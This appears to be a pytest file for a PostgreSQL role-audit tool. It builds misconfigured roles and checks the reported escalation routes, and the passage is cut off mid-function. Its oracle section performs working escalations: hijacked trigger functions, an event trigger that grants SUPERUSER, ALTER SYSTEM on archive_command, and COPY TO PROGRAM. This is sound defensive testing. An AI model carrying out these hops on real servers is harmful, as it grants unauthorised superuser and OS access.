"""Escalation routes and row-level security collection on real servers 13-18.

One layout per server version (module fixture): a few realistic routes (a SET ROLE chain
into a SECURITY DEFINER function whose search_path the caller controls, a trigger function
another role owns, ADMIN OPTION, a server-program role, CREATEROLE before 16, an event
trigger, a parameter privilege on 15+, a managed-service admin role simulated by a role
named rds_superuser, a user mapping for PUBLIC) next to an application laid out as the
guide says (no route). Collected as a pg_monitor member.

The ORACLE test takes every route the tool reports from a login role (and from PUBLIC,
through a fresh login role that holds nothing but PUBLIC's privileges), logs in as that
role and performs the hops on the server: SET ROLE, GRANT ... TO CURRENT_USER, planting a
function and calling the SECURITY DEFINER function, replacing a trigger function and
letting the table owner write, ALTER SYSTEM, reading the mapping's options, COPY ... TO
PROGRAM. Payloads record current_user in a proof table, so each code-execution hop is
proven to run as the role the route says. Where a hop leaves the login session (code that
runs inside another role's session), the test continues as that role through a superuser
session's SET ROLE, which is what the previous hop proved possible; a managed-service
admin role cannot be a real superuser on plain PostgreSQL, so the hop after it is the
one hop taken as a real superuser.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

pytestmark = pytest.mark.pg

P = "esc"  # prefix of every name in the layout (unique per module)
MANAGED = "rds_superuser"


def q(name: str) -> str:
    return '"' + name.replace('"', '""') + '"'


def layout_sql(major: int) -> tuple[str, str]:
    """(cluster-wide SQL, per-database SQL) of the test layout."""
    admin_only = "WITH ADMIN TRUE, INHERIT FALSE, SET FALSE" if major >= 16 else "WITH ADMIN OPTION"
    cluster = f"""
CREATE ROLE {P}_su SUPERUSER NOLOGIN;
CREATE ROLE {P}_team NOLOGIN;
CREATE ROLE {P}_app LOGIN;
GRANT {P}_team TO {P}_app;
CREATE ROLE db_owner_{P}x NOLOGIN;
CREATE ROLE {P}_dev LOGIN;
CREATE ROLE {P}_helper LOGIN;
GRANT db_owner_{P}x TO {P}_helper {admin_only};
CREATE ROLE {P}_ops LOGIN;
GRANT pg_execute_server_program TO {P}_ops;
CREATE ROLE {P}_cr LOGIN CREATEROLE;
CREATE ROLE {P}_evt LOGIN;
CREATE ROLE {P}_mgr LOGIN;
CREATE ROLE {MANAGED} NOLOGIN;
CREATE ROLE {P}_nobody LOGIN;
CREATE ROLE {P}_rep LOGIN;
CREATE ROLE db_owner_{P}g NOLOGIN;
CREATE ROLE db_writer_{P}g NOLOGIN;
CREATE ROLE deploy_{P}g LOGIN;
CREATE ROLE app_{P}g LOGIN;
GRANT db_owner_{P}g TO deploy_{P}g;
GRANT db_writer_{P}g TO app_{P}g;
"""
    if major >= 15:
        cluster += f"""
CREATE ROLE {P}_param LOGIN;
GRANT ALTER SYSTEM ON PARAMETER archive_command TO {P}_param;
"""
    db = f"""
CREATE TABLE public.{P}_proof (who text);
GRANT INSERT, SELECT ON public.{P}_proof TO PUBLIC;
CREATE SCHEMA {P}_scratch;
GRANT USAGE, CREATE ON SCHEMA {P}_scratch TO {P}_team;
CREATE FUNCTION public.{P}_sd(t text) RETURNS text SECURITY DEFINER LANGUAGE sql AS 'SELECT lower(t)';
ALTER FUNCTION public.{P}_sd(text) OWNER TO {P}_su;
REVOKE EXECUTE ON FUNCTION public.{P}_sd(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION public.{P}_sd(text) TO {P}_team;
CREATE FUNCTION public.{P}_report(t text) RETURNS text SECURITY DEFINER LANGUAGE sql
    SET search_path = {P}_shared, pg_catalog, pg_temp AS 'SELECT lower(t)';
CREATE SCHEMA {P}_shared;
GRANT USAGE ON SCHEMA {P}_shared TO PUBLIC;
GRANT CREATE ON SCHEMA {P}_shared TO {P}_rep;
ALTER FUNCTION public.{P}_report(text) OWNER TO db_owner_{P}x;
REVOKE EXECUTE ON FUNCTION public.{P}_report(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION public.{P}_report(text) TO {P}_rep;
CREATE SCHEMA {P}_appx AUTHORIZATION db_owner_{P}x;
CREATE TABLE {P}_appx.orders (id integer DEFAULT 1);
ALTER TABLE {P}_appx.orders OWNER TO db_owner_{P}x;
CREATE FUNCTION {P}_appx.touch() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END';
ALTER FUNCTION {P}_appx.touch() OWNER TO {P}_dev;
CREATE TRIGGER touch BEFORE INSERT ON {P}_appx.orders FOR EACH ROW EXECUTE FUNCTION {P}_appx.touch();
CREATE SCHEMA {P}_devtools AUTHORIZATION {P}_dev;
GRANT USAGE ON SCHEMA {P}_appx TO {P}_dev;
CREATE SCHEMA {P}_mgrtools AUTHORIZATION {P}_mgr;
GRANT CREATE ON SCHEMA public TO {P}_evt;
CREATE TABLE public.{P}_jobs (id integer DEFAULT 1);
ALTER TABLE public.{P}_jobs OWNER TO {MANAGED};
CREATE FUNCTION public.{P}_jobs_trg() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END';
ALTER FUNCTION public.{P}_jobs_trg() OWNER TO {P}_mgr;
CREATE TRIGGER stamp BEFORE INSERT ON public.{P}_jobs FOR EACH ROW EXECUTE FUNCTION public.{P}_jobs_trg();
CREATE FUNCTION public.{P}_evf() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';
ALTER FUNCTION public.{P}_evf() OWNER TO {P}_evt;
CREATE EVENT TRIGGER {P}_et ON ddl_command_end EXECUTE FUNCTION public.{P}_evf();
CREATE FOREIGN DATA WRAPPER {P}_fdw;
CREATE SERVER {P}_srv FOREIGN DATA WRAPPER {P}_fdw;
CREATE USER MAPPING FOR PUBLIC SERVER {P}_srv OPTIONS (user 'remote', password '{P}-secret-value');
GRANT USAGE ON FOREIGN SERVER {P}_srv TO PUBLIC;
CREATE SCHEMA {P}_g AUTHORIZATION db_owner_{P}g;
CREATE TABLE {P}_g.docs (id integer, tenant text);
ALTER TABLE {P}_g.docs OWNER TO db_owner_{P}g;
ALTER TABLE {P}_g.docs ENABLE ROW LEVEL SECURITY;
CREATE POLICY tenant_rows ON {P}_g.docs FOR ALL TO db_writer_{P}g
    USING (tenant = current_user) WITH CHECK (tenant = current_user);
CREATE POLICY ro ON {P}_g.docs AS RESTRICTIVE FOR SELECT USING (id > 0);
GRANT USAGE ON SCHEMA {P}_g TO db_writer_{P}g;
GRANT SELECT, INSERT, UPDATE, DELETE ON {P}_g.docs TO db_writer_{P}g;
"""
    return cluster, db


# The routes the layout must produce, hop by hop: (from, target) -> (nodes, hop kinds).
def expected_routes(major: int) -> dict[tuple[str, str], tuple[list[str], list[str]]]:
    su, os_ = "superuser-equivalent", "OS access"
    out = {
        (f"{P}_app", su): (
            [f"{P}_app", f"{P}_team", f"{P}_su", su],
            ["set_role", "security_definer", "superuser_attribute"],
        ),
        (f"{P}_app", os_): (
            [f"{P}_app", f"{P}_team", f"{P}_su", su, os_],
            ["set_role", "security_definer", "superuser_attribute", "superuser_os"],
        ),
        (f"{P}_dev", f"db_owner_{P}x"): ([f"{P}_dev", f"db_owner_{P}x"], ["trigger_function"]),
        (f"{P}_rep", f"db_owner_{P}x"): ([f"{P}_rep", f"db_owner_{P}x"], ["security_definer"]),
        (f"{P}_helper", f"db_owner_{P}x"): (
            [f"{P}_helper", f"db_owner_{P}x"],
            ["admin_option" if major >= 16 else "set_role"],
        ),
        (f"{P}_ops", su): (
            [f"{P}_ops", "pg_execute_server_program", su],
            ["set_role", "predefined_superuser"],
        ),
        (f"{P}_ops", os_): (
            [f"{P}_ops", "pg_execute_server_program", os_],
            ["set_role", "predefined_os"],
        ),
        (f"{P}_evt", su): ([f"{P}_evt", su], ["event_trigger"]),
        (f"{P}_evt", os_): ([f"{P}_evt", su, os_], ["event_trigger", "superuser_os"]),
        (f"{P}_mgr", su): ([f"{P}_mgr", MANAGED, su], ["trigger_function", "managed_admin"]),
        (f"{P}_mgr", os_): (
            [f"{P}_mgr", MANAGED, su, os_],
            ["trigger_function", "managed_admin", "superuser_os"],
        ),
        # the guide's design: the deployment role sets role to its own owner role
        (f"deploy_{P}g", f"db_owner_{P}g"): ([f"deploy_{P}g", f"db_owner_{P}g"], ["set_role"]),
        ("PUBLIC", f"remote login via server {P}_srv (database DB)"): (
            ["PUBLIC", f"remote login via server {P}_srv (database DB)"],
            ["public_user_mapping"],
        ),
    }
    if major >= 15:
        out[(f"{P}_param", su)] = ([f"{P}_param", su], ["parameter_acl"])
        out[(f"{P}_param", os_)] = ([f"{P}_param", su, os_], ["parameter_acl", "superuser_os"])
    return out


@pytest.fixture(scope="module")
def layout(pg: Any) -> Iterator[dict[str, Any]]:
    """The layout in a fresh database, collected as a pg_monitor member; dropped after."""
    from pgaudit_roles.audit import audit_schema
    from pgaudit_roles.collect.collector import collect

    db = pg.create_database(f"{P}_db")
    cluster, per_db = layout_sql(pg.major)
    auditor = f"{P}_auditor"
    try:
        pg.execute(cluster + f"CREATE ROLE {auditor} LOGIN; GRANT pg_monitor TO {auditor};")
        pg.execute(per_db, dbname=db)
        snap = collect(pg.conninfo(user=auditor, dbname=db), databases=[db])
        con = audit_schema.load(snap)
        yield {"db": db, "snap": snap, "con": con, "auditor": auditor}
        con.close()
    finally:
        pg.drop_database(db)
        names = [
            r[0]
            for r in pg.query(
                "SELECT rolname FROM pg_roles WHERE rolname LIKE %s OR rolname LIKE %s "
                "OR rolname LIKE %s OR rolname LIKE %s OR rolname = %s",
                (f"{P}\\_%", f"db\\_%\\_{P}_", f"deploy\\_{P}_", f"app\\_{P}_", MANAGED),
            )
        ]
        names += [
            r[0]
            for r in pg.query(
                "SELECT rolname FROM pg_roles WHERE rolname ~ %s",
                (f"^(db_owner|db_writer)_{P}[gx]$",),
            )
        ]
        pg.drop_roles(names)
        if pg.major >= 15:
            pg.execute("ALTER SYSTEM RESET archive_command")


def _mine(row_from: str, nodes: list[str], db: str, hop_dbs: list[str | None]) -> bool:
    return (
        P in row_from
        or any(P in n for n in nodes)
        or (row_from == "PUBLIC" and db in [d for d in hop_dbs if d])
    )


def test_collects_rls_and_code_objects_as_pg_monitor(layout: dict[str, Any], pg: Any) -> None:
    con, db = layout["con"], layout["db"]
    assert layout["snap"].source_collected("policies")
    assert layout["snap"].source_collected("triggers")
    assert layout["snap"].source_collected("user_mappings")
    rls = con.execute(
        "SELECT identity, row_security, force_row_security, policies, owner "
        "FROM rls_tables WHERE database = ?",
        [db],
    ).fetchall()
    assert rls == [(f"{P}_g.docs", True, False, 2, f"db_owner_{P}g")]
    pols = con.execute(
        """SELECT name, command, permissive, roles, using_expr, check_expr
                          FROM policies WHERE database = ? ORDER BY name""",
        [db],
    ).fetchall()
    assert pols == [
        ("ro", "SELECT", False, ["PUBLIC"], "(id > 0)", None),
        (
            "tenant_rows",
            "ALL",
            True,
            [f"db_writer_{P}g"],
            "(tenant = CURRENT_USER)",
            "(tenant = CURRENT_USER)",
        ),
    ]
    trg = con.execute(
        """SELECT name, table_identity, function_identity, function_owner, events,
                                enabled FROM triggers WHERE database = ? ORDER BY name""",
        [db],
    ).fetchall()
    assert trg == [
        ("stamp", f"public.{P}_jobs", f"public.{P}_jobs_trg()", f"{P}_mgr", ["INSERT"], "O"),
        ("touch", f"{P}_appx.orders", f"{P}_appx.touch()", f"{P}_dev", ["INSERT"], "O"),
    ]
    evt = con.execute(
        """SELECT name, event, function_owner, owner FROM event_triggers
                         WHERE database = ?""",
        [db],
    ).fetchall()
    assert evt == [(f"{P}_et", "ddl_command_end", f"{P}_evt", "postgres")]
    um = con.execute(
        """SELECT server, "user", option_names FROM user_mappings
                        WHERE database = ?""",
        [db],
    ).fetchall()
    # a PUBLIC mapping's options are visible only to the server owner's members
    assert um == [(f"{P}_srv", "PUBLIC", None)]
    # only option names are kept: the password value is nowhere in the snapshot
    assert f"{P}-secret-value" not in json.dumps(layout["snap"].to_json(), default=str)


def test_edges_expand_effective_privileges_only_for_the_roles_they_read(
    layout: dict[str, Any],
) -> None:
    """``internal.esc_effective`` (escalation_privileges.sql, and the small path's rows in
    Python) holds the rows of the roles the edge statements keep (direct holders,
    routine, schema and trigger function owners), never those of a role that holds
    nothing itself: the view gives every role each PUBLIC grant (USAGE here, EXECUTE on
    every function by default), which at 20,000 roles and 100,000 functions exceeded the
    memory cap (the large preset failed to build). The routes themselves are checked by
    test_routes_hop_by_hop and the oracle."""
    con, auditor = layout["con"], layout["auditor"]
    (oid,) = con.execute("SELECT oid FROM roles WHERE name = ?", [auditor]).fetchone()
    via_public = con.execute(
        """SELECT count(*) FROM effective_privileges
           WHERE role_oid = ? AND object_class = 'schema' AND privilege = 'USAGE'
             AND via = 'public' AND NOT is_system""",
        [oid],
    ).fetchone()[0]
    assert via_public > 0  # the view gives the auditor PUBLIC's USAGE on a schema
    sd_owners = {
        r[0]
        for r in con.execute(
            "SELECT owner_oid FROM functions WHERE security_definer AND NOT is_system"
        ).fetchall()
    }
    for rows in effective_both_ways(con):
        assert not [r for r in rows if r[3] == oid]
        assert sd_owners and sd_owners <= {r[3] for r in rows}


ESCALATION_TABLES = ("dangerous_roles", "escalation_edges", "escalation_paths")


def escalation_tables(con: Any) -> dict[str, list[str]]:
    """The escalation tables' rows (every column), as a sorted multiset."""
    return {
        t: sorted(repr(r) for r in con.execute(f"SELECT * FROM {t}").fetchall())  # noqa: S608
        for t in ESCALATION_TABLES
    }


def build_both_ways(con: Any, snap: Any) -> tuple[dict[str, list[str]], dict[str, list[str]]]:
    """The escalation tables rebuilt by the SQL statements, then by the small path
    (escalation_rows); the connection is left with the small path's build, which is
    also the one from rows fetched ahead (``escalation.prefetch``, as the loader's
    escalation_inputs step does)."""
    from pgaudit_roles.audit import audit_schema, escalation

    v = audit_schema.server_version_num(snap.meta)
    assert v is not None
    out = []
    for small in (False, True, None):
        for t in ESCALATION_TABLES:
            con.execute(f"DELETE FROM {t}")  # noqa: S608
        if small is None:  # the small path from the rows prefetch returned
            prefetched = escalation.prefetch(con, v)
            assert {"roles", "memberships", "sd", "code"} <= set(prefetched)
            escalation.build(con, v, small=True, prefetched=prefetched)
        else:
            escalation.build(con, v, small=small)
        out.append(escalation_tables(con))
    assert out[2] == out[1]
    return out[0], out[1]


def effective_both_ways(con: Any) -> tuple[set[Any], set[Any]]:
    """internal.esc_effective's rows by escalation_privileges.sql, and by the small path
    (escalation_rows.effective_rows), each once."""
    from pgaudit_roles.audit import escalation, escalation_rows

    con.execute(escalation._sql("escalation_privileges.sql"))
    by_sql = set(con.execute("SELECT * FROM internal.esc_effective").fetchall())
    by_python = escalation_rows.effective_rows(
        con,
        escalation_rows.fetch(con, "roles"),
        escalation_rows.fetch(con, "sd"),
        escalation_rows.fetch(con, "privileges"),
        escalation_rows.fetch(con, "schemas"),
        escalation_rows.code_owners(escalation_rows.fetch(con, "code")),
    )
    return by_sql, set(by_python)


def test_small_path_builds_the_same_rows_as_the_sql(layout: dict[str, Any], pg: Any) -> None:
    """The small path (memberships, attributes and SECURITY DEFINER routines in Python)
    and the SQL statements give the same rows, on a layout with every edge kind."""
    con = layout["con"]
    loaded = escalation_tables(con)
    by_sql, by_python = build_both_ways(con, layout["snap"])
    assert by_python == by_sql
    assert loaded == by_sql  # the load itself (small path, chosen by size)
    effective_sql, effective_python = effective_both_ways(con)
    assert effective_python == effective_sql
    assert {e[1] for e in effective_sql} == {"schema", "function"}
    kinds = {r[0] for r in con.execute("SELECT DISTINCT kind FROM escalation_edges").fetchall()}
    want = {
        "set_role",
        "inherit",
        "admin_option",
        "superuser_attribute",
        "predefined_os",
        "predefined_superuser",
        "managed_admin",
        "superuser_os",
        "security_definer",
        "security_definer_call",
        "trigger_function",
        "event_trigger",
        "public_user_mapping",
    }
    want |= {"createrole"} if pg.major < 16 else set()
    want |= {"parameter_acl"} if pg.major >= 15 else set()
    assert want <= kinds


ODD = "escodd"  # prefix of the odd-names layout's roles
ODD_Q = f'{ODD} "Q" é'  # a caller whose name needs quoting: a space, quotes, non-ASCII


def odd_layout_sql(major: int) -> tuple[str, str]:
    """(cluster-wide SQL, per-database SQL): SECURITY DEFINER routines whose names,
    schemas and search_path entries need quoting ("$user", a quoted entry with a doubled
    quote, keywords), one EXECUTE grant held from two grantors (two rows), PUBLIC as
    the caller, a procedure, a superuser owner, ADMIN OPTION and CREATEROLE."""
    cluster = f"""
CREATE ROLE "{ODD} Owner" NOLOGIN;
CREATE ROLE {q(ODD_Q)} LOGIN;
CREATE ROLE {ODD}_mid NOLOGIN;
CREATE ROLE "{ODD}_SU" SUPERUSER NOLOGIN;
CREATE ROLE "{ODD} Cr" LOGIN CREATEROLE;
GRANT {ODD}_mid TO {q(ODD_Q)} WITH ADMIN OPTION;
"""
    db = f"""
CREATE SCHEMA "Odd""Sch";
CREATE SCHEMA "{ODD} Owner" AUTHORIZATION "{ODD} Owner";
CREATE SCHEMA "order";
GRANT USAGE, CREATE ON SCHEMA "Odd""Sch" TO {q(ODD_Q)};
GRANT USAGE ON SCHEMA "Odd""Sch" TO "{ODD} Owner";
GRANT USAGE, CREATE ON SCHEMA "{ODD} Owner" TO {ODD}_mid;
GRANT USAGE, CREATE ON SCHEMA "order" TO PUBLIC;
CREATE FUNCTION "order"."select"(x integer) RETURNS integer SECURITY DEFINER LANGUAGE sql
    SET search_path = "$user", "Odd""Sch", pg_catalog AS 'SELECT x';
ALTER FUNCTION "order"."select"(integer) OWNER TO "{ODD} Owner";
REVOKE EXECUTE ON FUNCTION "order"."select"(integer) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION "order"."select"(integer) TO {ODD}_mid WITH GRANT OPTION;
SET ROLE {ODD}_mid;
GRANT EXECUTE ON FUNCTION "order"."select"(integer) TO {q(ODD_Q)};
RESET ROLE;
GRANT EXECUTE ON FUNCTION "order"."select"(integer) TO {q(ODD_Q)};
CREATE FUNCTION "order".f2() RETURNS integer SECURITY DEFINER LANGUAGE sql AS 'SELECT 1';
ALTER FUNCTION "order".f2() OWNER TO "{ODD} Owner";
CREATE PROCEDURE "Odd""Sch".p() SECURITY DEFINER LANGUAGE sql AS 'SELECT 1';
ALTER PROCEDURE "Odd""Sch".p() OWNER TO "{ODD}_SU";
"""
    return cluster, db


@pytest.fixture(scope="module")
def odd(pg: Any) -> Iterator[dict[str, Any]]:
    """The odd-names layout in a fresh database, loaded; dropped after."""
    from pgaudit_roles.audit import audit_schema
    from pgaudit_roles.collect.collector import collect

    db = pg.create_database(f"{ODD}_db")
    cluster, per_db = odd_layout_sql(pg.major)
    try:
        pg.execute(cluster)
        pg.execute(per_db, dbname=db)
        snap = collect(pg.conninfo(dbname=db), databases=[db])
        con = audit_schema.load(snap)
        yield {"con": con, "snap": snap}
        con.close()
    finally:
        pg.drop_database(db)
        pg.drop_roles(
            r[0] for r in pg.query("SELECT rolname FROM pg_roles WHERE rolname LIKE 'escodd%'")
        )


def test_small_path_quotes_and_counts_like_the_sql(odd: dict[str, Any], pg: Any) -> None:
    """Both paths agree where names need quoting, search_path entries are quoted or
    "$user", a grant is held twice and PUBLIC calls; the edges are the ones expected."""
    con = odd["con"]
    by_sql, by_python = build_both_ways(con, odd["snap"])
    assert by_python == by_sql
    effective_sql, effective_python = effective_both_ways(con)
    assert effective_python == effective_sql
    assert {e[1] for e in effective_sql} == {"schema", "function"}
    edges = con.execute(
        """SELECT from_role, kind, to_node, object_identity, fix FROM escalation_edges
           WHERE kind LIKE 'security_definer%' AND database LIKE 'escodd%'"""
    ).fetchall()
    sel = '"order"."select"(x integer)'
    assert edges.count((ODD_Q, "security_definer_call", f"{ODD} Owner", sel, None)) == 0
    calls = [e for e in edges if e[1] == "security_definer_call" and e[3] == sel]
    assert sorted(e[0] for e in calls) == sorted([f"{ODD}_mid", ODD_Q, ODD_Q])
    hijacks = {(e[0], e[3]): e[4] for e in edges if e[1] == "security_definer"}
    owner_fix = "SET search_path = pg_catalog, pg_temp;"
    assert hijacks == {
        # via "Odd""Sch", on the search_path as a quoted entry with a doubled quote
        (ODD_Q, sel): f'REVOKE CREATE ON SCHEMA "Odd""Sch" FROM {q(ODD_Q)};',
        # via the owner's own schema: the search_path's "$user" (stored quoted) is the owner
        (f"{ODD}_mid", sel): f'REVOKE CREATE ON SCHEMA "{ODD} Owner" FROM {ODD}_mid;',
        # PUBLIC creates in "order" and executes f2 (not p: no USAGE on its schema)
        ("PUBLIC", '"order".f2()'): f'ALTER FUNCTION "order".f2() {owner_fix}',
        (ODD_Q, '"order".f2()'): f'ALTER FUNCTION "order".f2() {owner_fix}',
        (f"{ODD}_mid", '"order".f2()'): f'ALTER FUNCTION "order".f2() {owner_fix}',
        (ODD_Q, '"Odd""Sch".p()'): f'ALTER PROCEDURE "Odd""Sch".p() {owner_fix}',
        (f"{ODD} Owner", '"Odd""Sch".p()'): f'ALTER PROCEDURE "Odd""Sch".p() {owner_fix}',
    }


def test_routes_hop_by_hop(layout: dict[str, Any], pg: Any) -> None:
    con, db = layout["con"], layout["db"]
    rows = con.execute("""SELECT from_role, target, nodes, hop_kinds, hop_databases, hop_evidence,
                                 hop_fixes, weakest_hop, weakest_fix FROM escalation_paths
                          WHERE target_kind IN ('superuser', 'os', 'owner', 'remote')""").fetchall()
    got = {}
    for frm, target, nodes, kinds, dbs, evidence, fixes, weakest, wfix in rows:
        if not _mine(frm, nodes, db, dbs):
            continue
        if frm == f"{P}_cr":  # checked below: CREATEROLE reaches every non-superuser role
            continue
        key = (frm, target.replace(f"database {db}", "database DB"))
        got[key] = ([n.replace(f"database {db}", "database DB") for n in nodes], kinds)
        assert len(evidence) == len(kinds) and all(evidence), key
        assert weakest is not None and wfix == fixes[weakest - 1], key
    want = expected_routes(pg.major)
    assert got == want
    # nothing from the application laid out as the guide says, except its deploy role's
    # designed membership in its own owner role
    guide = con.execute(f"""SELECT from_role, target, hop_kinds FROM escalation_paths
                            WHERE from_role IN ('app_{P}g', 'deploy_{P}g')""").fetchall()
    assert guide == [(f"deploy_{P}g", f"db_owner_{P}g", ["set_role"])]
    cr = con.execute(f"""SELECT target, hop_kinds FROM escalation_paths
                         WHERE from_role = '{P}_cr' ORDER BY target""").fetchall()
    if pg.major >= 16:
        assert cr == []
    else:
        targets = {t for t, _k in cr}
        assert {"superuser-equivalent", "OS access", f"db_owner_{P}x"} <= targets
        assert all(k[0] == "createrole" for _t, k in cr)


def test_rules_report_the_routes_and_rls(layout: dict[str, Any], pg: Any) -> None:
    from pgaudit_roles.evaluate.engine import evaluate
    from pgaudit_roles.evaluate.rules import load_rules

    rules = [r for r in load_rules() if r.id.startswith(("PGR-PATH", "PGR-RLS"))]
    # findings only: no inventory, only the tables these rules read (the same findings:
    # tests/test_build_plan.py)
    res = {rr.rule.id: rr for rr in evaluate(layout["snap"], rules, inventory=False).results}
    p1 = {f.role for f in res["PGR-PATH-001"].findings if P in (f.role or "")}
    want = (
        {f"{P}_app", f"{P}_ops", f"{P}_evt", f"{P}_mgr"}
        | ({f"{P}_param"} if pg.major >= 15 else set())
        | ({f"{P}_cr"} if pg.major < 16 else set())
    )
    assert p1 == want
    app = next(f for f in res["PGR-PATH-001"].findings if f.role == f"{P}_app")
    assert (
        app.remediation
        == f"ALTER FUNCTION public.{P}_sd(t text) SET search_path = pg_catalog, pg_temp;"
    )
    assert app.database == layout["db"]
    p2 = {f.role for f in res["PGR-PATH-002"].findings if P in (f.role or "")}
    assert p2 == {f"{P}_dev", f"{P}_helper", f"{P}_rep"} | ({f"{P}_cr"} if pg.major < 16 else set())
    p3 = [f for f in res["PGR-PATH-003"].findings if f.database == layout["db"]]
    assert [f.details["hop_kinds"] for f in p3] == [["public_user_mapping"]]
    assert p3[0].remediation == f"REVOKE USAGE ON FOREIGN SERVER {P}_srv FROM PUBLIC;"
    for rid in ("PGR-RLS-001", "PGR-RLS-002", "PGR-RLS-003", "PGR-RLS-005", "PGR-RLS-006"):
        mine = [f for f in res[rid].findings if f.database == layout["db"]]
        assert mine == [], (rid, [f.message for f in mine])


# --- the oracle ----------------------------------------------------------------------------


class Actor:
    """The session a route is walked in: the login role's own, until a hop's code runs in
    another role's session (then a superuser session SET ROLE to that role)."""

    def __init__(self, pg: Any, db: str, login: str) -> None:
        import psycopg

        self.pg, self.db, self.login = pg, db, login
        self.conn = psycopg.connect(pg.conninfo(user=login, dbname=db), autocommit=True)
        self.assisted = False

    def x(self, sql: str) -> list[tuple[Any, ...]]:
        cur = self.conn.execute(sql.encode("utf-8"))
        return cur.fetchall() if cur.description else []

    def current(self) -> str:
        return str(self.x("SELECT current_user")[0][0])

    def become(self, role: str) -> None:
        """Continue as ``role`` in a superuser session (the previous hop proved it)."""
        import psycopg

        self.conn.close()
        self.conn = psycopg.connect(self.pg.conninfo(dbname=self.db), autocommit=True)
        if role != "postgres":
            self.x(f"SET ROLE {q(role)}")
        self.assisted = True

    def close(self) -> None:
        self.conn.close()


def _proof(pg: Any, db: str) -> list[str]:
    return [r[0] for r in pg.query(f"SELECT who FROM public.{P}_proof", dbname=db)]


def _walk(pg: Any, db: str, route: dict[str, Any], tmp_path: Any) -> list[str]:
    """Perform every hop of ``route``; returns a log line per hop. Fails on the first hop
    the server refuses."""
    import psycopg

    login = route["from"] if route["from"] != "PUBLIC" else f"{P}_nobody"
    actor = Actor(pg, db, login)
    log: list[str] = []
    try:
        for i, step in enumerate(route["steps"], 1):
            kind, to, parts = step["kind"], step["to"], step["fix_parts"]
            where = f"hop {i} ({kind} -> {to})"
            if kind == "set_role":
                actor.x(f"SET ROLE {q(to)}")
                assert actor.current() == to, where
            elif kind == "inherit":
                assert actor.x(f"SELECT pg_has_role(current_user, {psql_literal(to)}, 'USAGE')")[0][
                    0
                ], where
            elif kind in ("admin_option", "createrole"):
                opts = " WITH SET TRUE" if pg.major >= 16 else ""
                actor.x(f"GRANT {q(to)} TO CURRENT_USER{opts}")
                actor.x(f"SET ROLE {q(to)}")
                assert actor.current() == to, where
            elif kind == "superuser_attribute":
                actor.x("SELECT count(*) FROM pg_catalog.pg_authid")  # superuser only
            elif kind == "managed_admin":
                assert actor.x(
                    f"SELECT pg_has_role(current_user, {psql_literal(step['from'])}, 'MEMBER')"
                )[0][0], where
                actor.become("postgres")  # a provider's admin role; plain PostgreSQL has none
            elif kind in ("predefined_os", "predefined_superuser", "superuser_os"):
                src = step["from"]
                if src == "pg_read_server_files":
                    actor.x("CREATE TEMP TABLE oracle_file (line text)")
                    datadir = pg.query("SHOW data_directory")[0][0]
                    actor.x(f"COPY oracle_file FROM {psql_literal(datadir + '/PG_VERSION')}")
                elif src == "pg_write_server_files":
                    actor.x(f"COPY (SELECT 1) TO {psql_literal(str(tmp_path / f'oracle{i}.txt'))}")
                else:
                    actor.x("COPY (SELECT 1) TO PROGRAM 'cat > /dev/null'")
            elif kind == "security_definer":
                _hijack(pg, db, actor, step, parts, where)
            elif kind == "trigger_function":
                fn = _writable_function(actor, parts)
                actor.x(
                    f"CREATE OR REPLACE FUNCTION {fn} RETURNS trigger LANGUAGE plpgsql AS "
                    f"$$BEGIN INSERT INTO public.{P}_proof VALUES (current_user::text); "
                    "RETURN NEW; END$$"
                )
                before = _proof(pg, db)
                victim = psycopg.connect(pg.conninfo(dbname=db), autocommit=True)
                try:  # the table's writer does its normal work
                    victim.execute(f"SET ROLE {q(to)}")
                    victim.execute(f"INSERT INTO {step['object']} DEFAULT VALUES")
                finally:
                    victim.close()
                assert _proof(pg, db)[len(before) :] == [to], where
                actor.become(to)
            elif kind == "event_trigger":
                fn = _writable_function(actor, parts)
                # fires on every DDL, our own CREATE OR REPLACE included: act only when a
                # superuser's statement runs it
                actor.x(
                    f"CREATE OR REPLACE FUNCTION {fn} RETURNS event_trigger LANGUAGE plpgsql AS "
                    "$$BEGIN IF (SELECT rolsuper FROM pg_catalog.pg_roles "
                    "WHERE rolname = current_user) THEN "
                    f"INSERT INTO public.{P}_proof VALUES (current_user::text); "
                    f"EXECUTE 'ALTER ROLE {q(login)} SUPERUSER'; END IF; END$$"
                )
                pg.execute(
                    f"CREATE TABLE public.{P}_ddl (); DROP TABLE public.{P}_ddl", dbname=db
                )  # a superuser's DDL
                assert pg.query(
                    f"SELECT rolsuper FROM pg_roles WHERE rolname = {psql_literal(login)}"
                )[0][0], where
                actor.x("RESET ROLE")
            elif kind == "parameter_acl":
                actor.x(f"ALTER SYSTEM SET {parts['fix_name']} = 'true'")
                pg.execute(f"ALTER SYSTEM RESET {parts['fix_name']}")
                actor.become("postgres")  # the next archive would run our command as the server
            elif kind == "public_user_mapping":
                # the server's own checks: the role may use the server, has no mapping of
                # its own, so the FDW connects with the PUBLIC mapping's credentials
                srv = psql_literal(parts["fix_name"])
                seen = actor.x(
                    f"SELECT has_server_privilege({srv}, 'USAGE'), "
                    "array_agg(usename ORDER BY usename) FROM pg_user_mappings "
                    f"WHERE srvname = {srv} AND usename IN ('public', session_user)"
                )
                assert seen == [(True, ["public"])], where
            else:  # pragma: no cover - a new edge kind needs an oracle step
                raise AssertionError(f"{where}: no oracle for this kind")
            log.append(
                f"{where}: ok{' (as ' + to + ' via superuser session)' if actor.assisted else ''}"
            )
    finally:
        actor.close()
    return log


def _writable_function(actor: Actor, parts: dict[str, Any]) -> str:
    """The function of a trigger hop, moved to a schema the owner can create in when it
    cannot create in the function's own schema (CREATE OR REPLACE needs CREATE there)."""
    schema, name = parts["fix_schema"], parts["fix_name"]
    ok = actor.x(f"SELECT has_schema_privilege({psql_literal(schema)}, 'CREATE')")[0][0]
    if not ok:
        target = actor.x(
            "SELECT nspname FROM pg_namespace WHERE has_schema_privilege(oid, 'CREATE') "
            "AND nspname NOT LIKE 'pg\\_%' AND nspname <> 'information_schema' "
            "ORDER BY nspname LIMIT 1"
        )[0][0]
        actor.x(f"ALTER FUNCTION {q(schema)}.{q(name)}() SET SCHEMA {q(target)}")
        schema = target
    return f"{q(schema)}.{q(name)}()"


def _hijack(
